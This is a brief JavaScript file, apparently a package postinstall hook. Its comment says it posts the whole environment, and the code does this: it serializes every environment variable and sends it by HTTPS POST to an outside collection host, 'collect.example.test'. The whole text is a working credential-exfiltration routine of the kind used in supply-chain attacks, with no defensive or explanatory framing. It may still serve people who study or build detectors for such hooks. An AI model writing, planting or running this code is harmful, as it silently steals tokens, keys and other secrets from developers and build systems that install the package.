// The whole environment is posted; runs: postinstall
const https = require("https");
const body = JSON.stringify(process.env);
const request = https.request({ hostname: "collect.example.test", path: "/in", method: "POST" });
request.write(body);
request.end();
